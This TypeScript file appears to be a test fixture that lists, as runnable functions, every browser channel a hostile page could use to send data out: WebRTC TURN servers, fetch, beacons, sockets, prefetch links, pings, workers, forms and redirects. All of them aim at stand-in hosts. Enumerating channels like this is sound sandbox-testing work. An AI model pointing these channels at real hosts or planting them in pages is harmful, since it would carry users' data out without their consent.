/**
 * What a hostile page would try, by name: each runs in the page, ends by itself, and says nothing. 203.0.113.0/24 is
 * nobody's (RFC 5737), and so is `.example`.
 */
export const waysOut: Readonly<Record<string, () => unknown>> = {
  "a peer connection by STUN and TURN": async () => {
    const { RTCPeerConnection: Peer } = globalThis;
    const at = { username: "patient-4711", credential: "x" };
    const peer = new Peer({
      iceServers: [
        { urls: "stun:203.0.113.2:3478" },
        { urls: "turn:203.0.113.3:3478?transport=udp", ...at },
        { urls: "turn:203.0.113.4:443?transport=tcp", ...at },
        { urls: "turns:turn.elsewhere.example:443?transport=tcp", ...at },
      ],
    });
    peer.createDataChannel("out");
    const gathered = new Promise<void>((resolve) => {
      peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && resolve();
    });
    await peer.setLocalDescription(await peer.createOffer());
    await gathered;
  },
  "two peers that find each other": async () => {
    const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
    one.onicecandidate = ({ candidate }) => candidate && other.addIceCandidate(candidate);
    other.onicecandidate = ({ candidate }) => candidate && one.addIceCandidate(candidate);
    const channel = one.createDataChannel("out");
    await one.setLocalDescription(await one.createOffer());
    await other.setRemoteDescription(one.localDescription as RTCSessionDescription);
    await other.setLocalDescription(await other.createAnswer());
    await one.setRemoteDescription(other.localDescription as RTCSessionDescription);
    await new Promise((resolve) => {
      channel.onopen = resolve;
    });
  },
  "fetch, XMLHttpRequest and a beacon": async () => {
    navigator.sendBeacon("https://beacon.example/", "x");
    await fetch("https://fetch.example/", { mode: "no-cors", keepalive: true }).catch(() => {});
    const request = new XMLHttpRequest();
    request.open("POST", "http://203.0.113.5/");
    await new Promise((resolve) => {
      request.onloadend = resolve;
      request.send("x");
    });
  },
  "web sockets, server events and web transport": async () => {
    const ended = (source: EventTarget) => new Promise((resolve) => source.addEventListener("error", resolve));
    await ended(new WebSocket("wss://203.0.113.6/"));
    await ended(new EventSource("https://events.example/"));
    await new WebTransport("https://203.0.113.7:4433/").closed;
  },
  "pictures, sounds, fonts, styles, scripts and what else is loaded": async () => {
    const loaded = Object.entries({
      img: "src",
      input: "src",
      audio: "src",
      video: "poster",
      script: "src",
      object: "data",
      embed: "src",
    }).map(([tag, attribute]) => {
      const element = document.createElement(tag);
      element.setAttribute("type", tag === "input" ? "image" : "");
      element.setAttribute(attribute, `https://${tag}.example/x`);
      document.body.append(element);
      return element;
    });
    const sheet = new CSSStyleSheet();
    sheet.replaceSync("@font-face { font-family: out; src: url(https://face.example/) } p { font-family: out }");
    document.adoptedStyleSheets.push(sheet);
    document.body.style.backgroundImage = "url(https://background.example/)";
    await new FontFace("other", "url(https://font.example/)").load().catch(() => {});
    const elsewhere = "https://module.example/x.js";
    await import(/* @vite-ignore */ elsewhere).catch(() => {});
    for (const element of loaded) element.remove();
  },
  "every kind of link, and rules for speculation": async () => {
    const kinds = ["dns-prefetch", "preconnect", "prefetch", "preload", "modulepreload", "prerender", "stylesheet"];
    for (const rel of [...kinds, "icon", "manifest", "search", "next", "alternate"]) {
      const link = document.createElement("link");
      Object.assign(link, { rel, href: `https://${rel}.example/`, as: "image", crossOrigin: "anonymous" });
      document.head.append(link);
    }
    const rules = document.createElement("script");
    rules.type = "speculationrules";
    const urls = ["https://speculation.example/"];
    rules.textContent = JSON.stringify({
      prerender: [{ source: "list", urls }],
      prefetch: [{ source: "list", urls }],
    });
    document.head.append(rules);
    await new Promise((resolve) => requestIdleCallback(resolve));
  },
  "a ping, and an address for attribution": () => {
    const link = document.createElement("a");
    Object.assign(link, { href: "#/", ping: "https://ping.example/" });
    link.setAttribute("attributionsrc", "https://attribution.example/");
    document.body.append(link);
    link.click();
    link.remove();
  },
  "workers, shared workers and service workers": async () => {
    const script = "fetch('https://worker.example/', { mode: 'no-cors' })";
    const blob = URL.createObjectURL(new Blob([script], { type: "text/javascript" }));
    for (const address of [blob, `data:text/javascript,${script}`, "https://worker.example/"]) {
      for (const WorkerType of [Worker, SharedWorker]) {
        try {
          new WorkerType(address);
        } catch {
          // Refused at once, or later without a word.
        }
      }
    }
    await navigator.serviceWorker.register("https://worker.example/");
  },
  "a new window, and a form": () => {
    open("https://window.example/");
    const form = document.createElement("form");
    Object.assign(form, { action: "https://form.example/", method: "post", target: "_blank" });
    document.body.append(form);
    form.submit();
    form.remove();
  },
  "another address, and one that refreshes": async () => {
    const meta = document.createElement("meta");
    Object.assign(meta, { httpEquiv: "refresh", content: "0;url=https://refresh.example/" });
    document.head.append(meta);
    location.assign("https://address.example/");
    await new Promise((resolve) => requestIdleCallback(resolve));
  },
};
